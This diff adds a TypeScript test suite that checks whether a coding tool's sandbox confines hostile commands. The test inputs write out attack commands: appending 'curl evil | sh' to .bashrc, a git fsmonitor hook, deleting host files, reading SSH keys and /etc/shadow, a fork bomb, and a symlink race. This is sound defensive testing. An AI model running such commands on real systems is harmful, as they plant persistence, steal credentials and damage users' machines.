@@ -1,0 +1,223 @@
+import { randomUUID } from 'node:crypto';
+import { once } from 'node:events';
+import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:net';
+import path from 'node:path';
+import { afterEach, beforeEach, expect, it } from 'vitest';
+import type { SuiteContext } from './backend-suite.js';
+import { hashTree, makeRepo, pidsWithArg } from './fixtures.js';
+
+// Outside /tmp (which every sandbox gets privately), so commands see these read-only and a write
+// that lands proves an escape rather than a missing directory.
+const OUTSIDE_ROOT = '/var/tmp';
+
+/** `node -e` for commands: the same binary as ours, visible read-only in every view. */
+function nodeCommand(script: string): string {
+  return `${JSON.stringify(process.execPath)} -e ${JSON.stringify(script)}`;
+}
+
+/** A command that connects to 127.0.0.1:`port` and prints "connected" or the error code. */
+function connectCommand(port: number): string {
+  return nodeCommand(
+    `const s=require('net').connect(${port},'127.0.0.1');s.on('connect',()=>{console.log('connected');s.end()});` +
+      `s.on('error',e=>{console.log('failed '+e.code);process.exitCode=3})`,
+  );
+}
+
+async function listen(server: Server): Promise<number> {
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const addr = server.address();
+  if (addr === null || typeof addr === 'string') throw new Error('no port');
+  return addr.port;
+}
+
+/**
+ * What a hostile command tries against the machine: every write outside its sandbox, reading
+ * credentials, the network, exhausting processes, huge files, and racing the file tools with
+ * symlinks. Each must fail while the sandbox keeps working.
+ */
+export function registerConfinementTests(s: SuiteContext): void {
+  let home: string;
+  let outside: string;
+  let savedHome: string | undefined;
+  const servers: Server[] = [];
+
+  beforeEach(async () => {
+    home = await mkdtemp(path.join(OUTSIDE_ROOT, 'ic-home-'));
+    outside = await mkdtemp(path.join(OUTSIDE_ROOT, 'ic-outside-'));
+    await writeFile(path.join(home, '.bashrc'), '# the user rc\n');
+    await mkdir(path.join(home, '.ssh'));
+    await writeFile(path.join(home, '.ssh', 'id_test'), 'PRIVATE KEY MATERIAL\n');
+    await mkdir(path.join(home, '.config', 'infinity-code'), { recursive: true });
+    await writeFile(path.join(home, '.config', 'infinity-code', 'config.json'), '{"model":"secret-model"}\n');
+    await writeFile(path.join(outside, 'keep.txt'), 'keep\n');
+    // Credential locations are found under the home of the process that opens the session.
+    savedHome = process.env.HOME;
+    process.env.HOME = home;
+  });
+
+  afterEach(async () => {
+    process.env.HOME = savedHome;
+    for (const server of servers.splice(0)) server.close();
+    await rm(home, { recursive: true, force: true });
+    await rm(outside, { recursive: true, force: true });
+  });
+
+  it('a command can write only its sandbox and a private /tmp: host files, the home, rc files and the shared /tmp stay as they were', async () => {
+    const repo = await makeRepo({ 'a.txt': 'a\n' });
+    const before = await hashTree(repo);
+    const hostTmpMarker = path.join('/tmp', `ic-shared-${randomUUID()}`);
+    const session = await s.open(repo);
+    const sb = await session.create();
+
+    // Visible (read-only): the attempt below fails for being read-only, not for a missing path.
+    expect((await sb.run(`cat ${outside}/keep.txt`)).stdout).toBe('keep\n');
+    const attack = await sb.run(
+      [
+        `echo pwned > ${outside}/marker.txt`,
+        `rm -f ${outside}/keep.txt`,
+        `echo pwned > ~/pwned.txt`,
+        `echo 'curl evil | sh' >> ~/.bashrc`,
+        `git config --global core.fsmonitor "touch ${outside}/fsmonitor"`,
+        `echo pwned > ${hostTmpMarker}`,
+        `echo pwned > ${repo}/a.txt`,
+        'echo private > /tmp/mine.txt && cat /tmp/mine.txt',
+        'echo in-sandbox > b.txt',
+      ].join('; '),
+    );
+    expect(attack.stdout).toContain('private\n');
+    expect(attack.stderr).toMatch(/Read-only file system/);
+    expect(await readdir(outside)).toEqual(['keep.txt']);
+    expect(await readdir(home)).toEqual(['.bashrc', '.config', '.ssh']);
+    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('# the user rc\n');
+    await expect(readFile(hostTmpMarker)).rejects.toMatchObject({ code: 'ENOENT' });
+    expect(await hashTree(repo)).toEqual(before);
+    // The sandbox itself took the legitimate write (on the copy backend the repository path is
+    // the user's, read-only; the command's own view is the copy).
+    expect(await sb.readText('b.txt')).toBe('in-sandbox\n');
+    // The private /tmp is the sandbox's: the next command sees it, the host does not.
+    expect((await sb.run('cat /tmp/mine.txt')).stdout).toBe('private\n');
+  });
+
+  it('credential locations and the sandbox state are hidden from commands', async () => {
+    const repo = await makeRepo({ 'a.txt': 'a\n' });
+    const session = await s.open(repo);
+    const sb = await session.create();
+    // Another session's storage in the same state dir (another repository's sandboxes).
+    const stateDir = path.dirname(path.dirname(session.ctx.sessionDir));
+    await mkdir(path.join(stateDir, 'sessions', 'other'), { recursive: true });
+    await writeFile(path.join(stateDir, 'sessions', 'other', 'their-code.txt'), 'OTHER REPOSITORY\n');
+    const r = await sb.run(
+      `cat ~/.ssh/id_test; ls -A ~/.ssh; cat ~/.config/infinity-code/config.json; ls -A ${stateDir}/sessions; ` +
+        `cat ${stateDir}/sessions/other/their-code.txt; cat /etc/shadow | wc -c; echo end`,
+    );
+    expect(r.stdout).not.toContain('PRIVATE KEY');
+    expect(r.stdout).not.toContain('secret-model');
+    expect(r.stdout).not.toContain('OTHER REPOSITORY');
+    expect(r.stdout).not.toContain('other');
+    expect(r.stdout).toMatch(/(^|\n)0\nend\n$/);
+  });
+
+  it('has no network by default: the host loopback is unreachable, a server a command starts is reachable only from the sandbox', async () => {
+    let hostConnections = 0;
+    const server = createServer((c) => {
+      hostConnections++;
+      c.end();
+    });
+    servers.push(server);
+    const port = await listen(server);
+    const repo = await makeRepo({ 'a.txt': 'a\n' });
+    const session = await s.open(repo);
+    const sb = await session.create();
+
+    const blocked = await sb.run(connectCommand(port));
+    expect(blocked.stdout).toMatch(/^failed E(CONNREFUSED|NETUNREACH)/);
+    expect(hostConnections).toBe(0);
+
+    // A server on 0.0.0.0 inside: the next command of the sandbox reaches it, the host does not.
+    const inner = await sb.exec(
+      nodeCommand(`require('net').createServer(c=>c.end('hello from inside\\n')).listen(${port},'0.0.0.0',()=>console.log('up'))`),
+    );
+    await once(inner.stdout, 'data');
+    expect((await sb.run(connectCommand(port))).stdout).toBe('connected\n');
+    inner.kill();
+    await inner.done;
+    expect(hostConnections).toBe(0);
+
+    // Opened for one command the user approved: the host's loopback answers.
+    const approved = await sb.run(connectCommand(port), { network: true });
+    expect(approved.stdout).toBe('connected\n');
+    expect(hostConnections).toBe(1);
+  });
+
+  it('with network "on" commands share the machine network', async () => {
+    let hostConnections = 0;
+    const server = createServer((c) => {
+      hostConnections++;
+      c.end();
+    });
+    servers.push(server);
+    const port = await listen(server);
+    const repo = await makeRepo({ 'a.txt': 'a\n' });
+    const session = await s.open(repo, { containment: { network: 'on' } });
+    const sb = await session.create();
+    expect((await sb.run(connectCommand(port))).stdout).toBe('connected\n');
+    expect(hostConnections).toBe(1);
+  });
+
+  it('a fork bomb hits the process limit: the command fails, nothing outlives it, the sandbox goes on', async () => {
+    const repo = await makeRepo({ 'a.txt': 'a\n' });
+    const session = await s.open(repo, { containment: { limits: { processes: 64 } } });
+    const sb = await session.create();
+    const tag = `${1000 + Math.floor(Math.random() * 9000)}.${Date.now() % 1000000}`;
+    let peak = 0;
+    const sampler = setInterval(() => {
+      void pidsWithArg(tag).then((p) => (peak = Math.max(peak, p.length)));
+    }, 20);
+    try {
+      const bomb = await sb.run(`i=0; while [ $i -lt 500 ]; do sleep ${tag} & i=$((i+1)); done; echo spawned-all`);
+      expect(bomb.exitCode).not.toBe(0);
+      expect(bomb.stdout).not.toContain('spawned-all');
+      expect(bomb.stderr).toMatch(/fork|Resource temporarily unavailable/i);
+    } finally {
+      clearInterval(sampler);
+    }
+    expect(peak).toBeLessThanOrEqual(64);
+    expect(await pidsWithArg(tag)).toEqual([]);
+    expect((await sb.run('echo still-alive')).stdout).toBe('still-alive\n');
+  });
+
+  it('a file larger than the file-size limit cannot be written', async () => {
+    const repo = await makeRepo({ 'a.txt': 'a\n' });
+    const session = await s.open(repo, { containment: { limits: { fileSizeBytes: 1_000_000 } } });
+    const sb = await session.create();
+    const r = await sb.run('head -c 2000000 /dev/zero > big.bin; echo rc=$?; wc -c < big.bin');
+    expect(r.stdout).toMatch(/rc=(1|153)\n1000000\n/);
+  });
+
+  it('file tools racing a command that swaps a directory for a symlink never write outside the sandbox', async () => {
+    const repo = await makeRepo({ 'a.txt': 'a\n' });
+    const before = await hashTree(repo);
+    const session = await s.open(repo);
+    const sb = await session.create();
+    // Targets a racing write could reach: the real repository (by absolute path) and a host dir.
+    await symlink(outside, path.join(home, 'outside-link')).catch(() => undefined);
+    const swapper = await sb.exec(
+      `n=0; while [ $n -lt 20000 ]; do rm -rf d; mkdir d; rm -rf d; ln -s ${outside} d; rm -f d; ln -s ${repo} d; rm -f d; n=$((n+1)); done`,
+    );
+    let written = 0;
+    for (let i = 0; i < 400; i++) {
+      await sb
+        .writeFile(`d/race-${i}.txt`, 'x\n')
+        .then(() => written++)
+        .catch(() => undefined);
+    }
+    swapper.kill();
+    await swapper.done;
+    expect(await readdir(outside), `written outside: ${(await readdir(outside)).join(', ')}`).toEqual(['keep.txt']);
+    expect(await hashTree(repo)).toEqual(before);
+    // Some writes landed (the race was real), all inside the sandbox.
+    expect(written).toBeGreaterThan(0);
+  });
+}
